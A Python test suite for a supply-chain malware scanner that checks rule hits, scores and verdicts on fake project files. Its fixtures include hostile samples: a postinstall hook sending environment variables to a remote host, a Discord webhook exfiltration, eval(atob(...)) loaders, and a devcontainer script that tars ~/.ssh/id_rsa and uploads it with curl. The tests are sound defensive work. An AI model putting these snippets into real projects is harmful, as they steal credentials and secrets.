from __future__ import annotations

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from impextech.vet.filecontext import MAX_HITS_PER_RULE
from impextech.vet.items import SourceFile
from impextech.vet.model import Finding, Report, Severity, Verdict
from impextech.vet.scanner import scan_items


def _scan(files: dict[str, str]) -> Report:
    return scan_items([SourceFile(p, c.encode(), len(c.encode())) for p, c in files.items()])


def _f(sev: Severity, rule_id: str = "X") -> Finding:
    return Finding(rule_id, "x", sev, "m", "a.js", 1, "e")


def _many(sev: Severity, n: int) -> list[Finding]:
    return [_f(sev, f"R{i}") for i in range(n)]


def test_autorun_follows_scripts_and_local_requires() -> None:
    report = _scan(
        {
            "package.json": '{"scripts": {"postinstall": "node ./tools/setup.js --quiet"}}',
            "tools/setup.js": 'require("./lib/net");\n',
            "tools/lib/net.js": 'const h = require("https");\nh.get("https://x.invalid/" + '
            "JSON.stringify(process.env));\n",
            "src/unrelated.js": 'const h = require("https");\n'
            "h.get(JSON.stringify(process.env));\n",
        }
    )
    got = sorted((f.rule_id, f.path, f.line) for f in report.findings)
    assert got == [
        ("VET101", "package.json", 1),
        ("VET506", "src/unrelated.js", 2),
        ("VET511", "tools/lib/net.js", 2),
    ]
    assert report.verdict is Verdict.MALICIOUS


def test_lone_capabilities_in_ordinary_code_are_not_findings() -> None:
    report = _scan(
        {
            "src/api.js": 'const r = await fetch("/api/items");\n',
            "src/run.js": 'const { spawn } = require("child_process");\nspawn("ls");\n',
            "src/tpl.js": "module.exports = (s) => new Function('x', s);\n",
        }
    )
    assert report.findings == []
    assert sorted(s.rule_id for s in report.signals) == ["VET205", "VET206", "VET206", "VET207"]
    assert (report.verdict, report.score) == (Verdict.CLEAN, 0)


def test_only_the_most_severe_combination_per_file_is_reported() -> None:
    report = _scan(
        {
            "x.js": 'const s = JSON.stringify(process.env);\nfetch("https://discord.com/api/'
            'webhooks/1/a", {body: s});\n'
        }
    )
    assert [(f.rule_id, f.severity) for f in report.findings] == [
        ("VET507", Severity.CRITICAL),
        ("VET408", Severity.MEDIUM),
    ]


def test_hits_per_rule_and_file_are_capped() -> None:
    lines = "".join(f"eval(atob(x{i}));\n" for i in range(10))
    report = _scan({"x.js": lines})
    assert [f.line for f in report.findings if f.rule_id == "VET201"] == list(
        range(1, MAX_HITS_PER_RULE + 1)
    )


def test_score_and_verdict_thresholds() -> None:
    lows = Report("t", _many(Severity.LOW, 14))
    assert (lows.verdict, lows.score) == (Verdict.CLEAN, 14)
    assert Report("t", _many(Severity.MEDIUM, 3)).verdict is Verdict.SUSPICIOUS
    assert Report("t", _many(Severity.HIGH, 1)).verdict is Verdict.SUSPICIOUS
    assert Report("t", _many(Severity.HIGH, 3)).verdict is Verdict.MALICIOUS
    assert Report("t", _many(Severity.CRITICAL, 1)).verdict is Verdict.MALICIOUS
    assert Report("t", _many(Severity.CRITICAL, 5)).score == 100


def test_a_rule_counts_once_in_the_score() -> None:
    same = Report("t", [_f(Severity.MEDIUM, "VET604")] * 12 + [_f(Severity.LOW, "VET101")] * 3)
    assert (same.score, same.verdict) == (6, Verdict.CLEAN)
    assert same.counts() == {"low": 3, "medium": 12, "high": 0, "critical": 0}


def test_evidence_is_the_offending_line_trimmed() -> None:
    long_line = "x" * 300 + " eval(atob(p)); " + "y" * 300
    report = _scan({"x.js": "ok();\n" + long_line + "\n"})
    (f,) = [f for f in report.findings if f.rule_id == "VET201"]
    assert f.line == 2
    assert f.evidence.startswith("…" + "x" * 39 + " eval(atob(p));")
    assert len(f.evidence) == 162


names = st.sampled_from(
    ["package.json", ".vscode/tasks.json", "a.js", "setup.py", "tailwind.config.js",
     "yarn.lock", "package-lock.json", "b.py", "x.bin", ".devcontainer.json", "requirements.txt"]
)  # fmt: skip
content = st.one_of(
    st.binary(max_size=300),
    st.text(alphabet=string.printable + "_0x{}[]\"'()", max_size=300).map(str.encode),
)


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(names, content, max_size=5))
def test_any_input_yields_a_consistent_report(files: dict[str, bytes]) -> None:
    report = scan_items([SourceFile(p, d, len(d)) for p, d in files.items()])
    assert report.files_scanned == len(files)
    for f in report.findings:
        assert f.severity > Severity.INFO
        assert f.path in files
        assert 0 <= f.line <= files[f.path].count(b"\n") + 1


HIDDEN_GET = 'const u = "aHR0cDovLzE5OC41MS4xMDAuOS9w";\nrequire("https").get(u);\n'


def test_scripts_a_readme_tells_you_to_run_are_on_the_execution_path() -> None:
    report = _scan(
        {
            "README.md": "Setup:\n\n```sh\nnpm ci\nnode scripts/init.js\n```\n",
            "scripts/init.js": HIDDEN_GET,
            "scripts/other.js": HIDDEN_GET,
        }
    )
    got = sorted((f.rule_id, f.path) for f in report.findings)
    assert got == [("VET511", "scripts/init.js"), ("VET512", "scripts/other.js")]


def test_in_a_bundle_a_combination_needs_its_signals_close_together() -> None:
    filler = "function f(a) { return a + 1; }\n" * 10_000
    far = (
        'fetch("https://api.example.invalid/x");\n'
        + filler
        + 'const id = "nkbihfbeogaeaoehlefnkodbefgpgknn";\n'
    )
    wallet = 'const id = "nkbihfbeogaeaoehlefnkodbefgpgknn";\n'
    near = filler + 'fetch("https://api.example.invalid/x");\n' + wallet
    assert len(far) > 256 * 1024
    assert [f.rule_id for f in _scan({"dist/far.js": far}).findings] == []
    assert [(f.rule_id, f.line) for f in _scan({"dist/near.js": near}).findings] == [
        ("VET503", 10_002)
    ]


def test_bidi_controls_in_minified_vendor_code_are_not_trojan_source() -> None:
    minified = "var t='\u202e';" + "a=1;" * 20_000
    assert _scan({"vendor/x.js": minified}).findings == []
    report = _scan({"src/x.js": "if (a != 'user\u202e') { go(); }\n"})
    assert [f.rule_id for f in report.findings] == ["VET307"]


def test_devcontainer_commands_run_from_the_workspace_root() -> None:
    report = _scan(
        {
            ".devcontainer/devcontainer.json": '{"initializeCommand": "bash .devcontainer/p.sh"}',
            ".devcontainer/p.sh": "tar czf /tmp/k.tgz ~/.ssh/id_rsa\ncurl -F f=@/tmp/k.tgz "
            "http://198.51.100.23:8080/up\n",
        }
    )
    got = sorted((f.rule_id, f.path, f.line) for f in report.findings)
    assert got == [
        ("VET104", ".devcontainer/devcontainer.json", 1),
        ("VET409", ".devcontainer/p.sh", 2),
        ("VET511", ".devcontainer/p.sh", 2),
    ]


def test_lockfiles_of_every_manager() -> None:
    report = _scan(
        {
            "yarn.lock": 'a@^1:\n  version "1.0.0"\n  resolved "git+ssh://git@h.invalid/a.git#1"\n',
            "pnpm-lock.yaml": "packages:\n  /b@1.0.0:\n    resolution: {tarball: "
            "https://cdn.example.invalid/b-1.0.0.tgz}\n",
        }
    )
    got = sorted((f.rule_id, f.path, f.line) for f in report.findings)
    assert got == [("VET602", "yarn.lock", 3), ("VET606", "pnpm-lock.yaml", 3)]
